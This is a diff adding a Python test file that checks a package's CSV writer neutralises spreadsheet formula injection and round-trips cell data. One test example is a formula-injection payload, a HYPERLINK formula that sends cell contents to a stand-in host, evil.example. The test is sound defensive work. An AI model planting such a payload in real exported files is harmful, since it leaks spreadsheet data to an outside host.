@@ -1,0 +1,59 @@
+"""A table of ours holds no formula, whichever sign a spreadsheet splits it at, and nothing of it is lost."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+import vaern
+from vaern.formats.csv_write import CsvWriter
+
+CELLS = st.text(st.sampled_from("=+-@;,\t\r\n\"' aæ1"), max_size=12)
+
+
+def written(rows: list[list[str]]) -> str:
+    out = io.StringIO(newline="")
+    CsvWriter(out).rows(rows)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4))
+@example([['x;=HYPERLINK("http://evil.example/?"&A1;"open")']])
+def test_no_cell_begins_as_a_formula(delimiter: str, rows: list[list[str]]) -> None:
+    for row in csv.reader(io.StringIO(written(rows), newline=""), delimiter=delimiter):
+        assert not [cell for cell in row if cell.lstrip('"')[:1] in {"=", "+", "-", "@"}]
+
+
+@given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4))
+def test_what_was_written_is_read_back_but_for_apostrophes(rows: list[list[str]]) -> None:
+    read = list(csv.reader(io.StringIO(written(rows), newline="")))
+    assert [[cell.replace("'", "") for cell in row] for row in read] == [
+        [cell.replace("'", "") for cell in row] for row in rows
+    ]
+
+
+def test_nothing_else_in_the_package_writes_csv() -> None:
+    package = Path(vaern.__file__).parent
+    writers = {
+        path.relative_to(package).as_posix()
+        for path in package.rglob("*.py")
+        for node in ast.walk(ast.parse(path.read_text("utf-8")))
+        if (
+            isinstance(node, ast.Attribute)
+            and node.attr in {"writer", "DictWriter"}
+            and ast.unparse(node.value) == "csv"
+        )
+        or (
+            isinstance(node, ast.ImportFrom)
+            and node.module == "csv"
+            and {"writer", "DictWriter"} & {n.name for n in node.names}
+        )
+    }
+    assert writers == {"formats/csv_write.py"}
